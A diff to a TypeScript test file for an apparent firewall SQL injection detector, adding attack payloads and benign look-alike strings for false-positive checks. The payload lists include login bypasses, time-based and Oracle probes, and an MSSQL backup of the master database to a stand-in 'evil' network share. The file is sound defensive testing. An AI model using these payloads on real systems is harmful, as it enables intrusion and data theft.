@@ -37,6 +37,7 @@ const SQLI_PL1: Record<string, string[]> = {
   'conditions only SQL writes: IF over a constant compared with =, a SQL call appended to a list, a user name cast to int': ['if(2=', 'IF(1=1,SLEEP(5),0)', "if('a'='a'", ", FIND_IN_SET('22', Category )", ', md5(password)', '1 current_user::int', 'session_user::integer'],
   'SQLite/PostgreSQL postfix null tests after a break, and a dangling condition the closing quote completes': ["' notnull --", "x' isnull--", "' * from = 1 or '9", "admin' = 1 or 'a", "' or '' '"],
   "login bypasses doing arithmetic on the application's two quoted halves": ["'-'", '"-"', "'*'", "'&'", "'^'"],
+  'insert values continued after a break or a number, conditional sorts on a constant, Oracle packages compared': ["x', 'admin')--", "x'),('admin','pw')--", "test'), (1, 'a', 'b')#", '1,1,1)--', '(CASE WHEN (1=1) THEN id ELSE name END)', 'case when 1=1 then 1 else 2 end', '1 and 1=ctxsys.drithsx.sn(1,1)', '1 AND 1=DBMS_UTILITY.SQLID_TO_SQLHASH(1)'],
   'negated comparisons, probes that are one call, MSSQL concatenation and backups, a whole-value waitfor': ['1 AND NOT 1=2', 'and not 1=1', '1 AND ISNULL(NULL)', "ad'+'min", "1; BACKUP DATABASE master TO DISK='\\\\evil\\x.bak'--", "WAITFOR DELAY '0:0:5'"],
 };
 
@@ -79,7 +80,7 @@ const BENIGN: string[] = [
   'Order by date', 'Group by size', 'ORDER BY', 'from Paris with love', 'Two boxes (fragile) as agreed from Monday on', 'in progress', 'is not available', 'like new',
   'in case when it rains then we stay home', 'Case closed', 'Where is my order?', 'having fun', 'values matter', "I'd like 'em both", 'std::string and Vec::new',
   'version 1.2.3', 'Execute the plan', 'exec chair', 'execute order', 'I declare @bob the winner', 'declare @bob the winner', '=IF(A1=1,1,0)', 'if (1 < 2) then', ', and then (some)',
-  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', "Any arguments after `'--'` will not be parsed", "Notice that a line starting with `'#'`(hash) is treated as a comment.", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
+  ', date(2020)', 'Fixed it; update users', "'-' is a dash", "a '*' marks required fields", "use '&' to join", 'a-b', "'-1", "it's or 'not", "it's '+' sign", "a'+'b c", 'backup database to the cloud', "O'Brien, 'Jr')#", '1,2,3)', 'see (1, 2)--', 'Sizes 1,2,3)--', "Any arguments after `'--'` will not be parsed", "Notice that a line starting with `'#'`(hash) is treated as a comment.", "it's 5 > 3 or 'maybe", "O'Brien = boss or 'not", "Don't know or 'care", 'notnull', 'isnull', 'in (select one)', 'available in (select sizes)', 'the union of two sets', 'json', 'sin city', 'log in', 'Conor O\'Brien', 'x >= 3', 'a != b',
   // JavaScript and HTML words in prose and data
   'window.location is undefined in my app', 'Use `Function.prototype.call` to invoke it', 'See section 2.1 (document) for details', 'self-service portal',
   'top 10 results', 'C++ operators: a+b, a+=b', '¼ cup sugar, ¾ cup flour', 'price 1¼ – 1¾ €',
@@ -140,7 +141,7 @@ test('benign look-alikes pass at paranoia 1 and 2 (SQL injection and XSS finding
 });
 
 test('look-alikes of the shapes that block at paranoia 1 (code, prose, probes of paranoia 2) pass at the default', () => {
-  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff']) {
+  for (const b of ['if (a == 1)', 'if(x=5)', 'all except values (1, 2)', 'current_user::text', 'password::int', 'in (select id from', 'declare @bob the winner', 'x AS orders FROM', '1 and coalesce(a, b) stuff', 'case when x then y', 'v := utl_http.request(url);']) {
     for (const r of everywhere(b)) {
       const mine = inspect(r).findings.filter((f) => f.category === 'sqli');
       assert.ok(totalScore(mine) < 5, `false positive: ${b} → ${JSON.stringify(mine)}`);
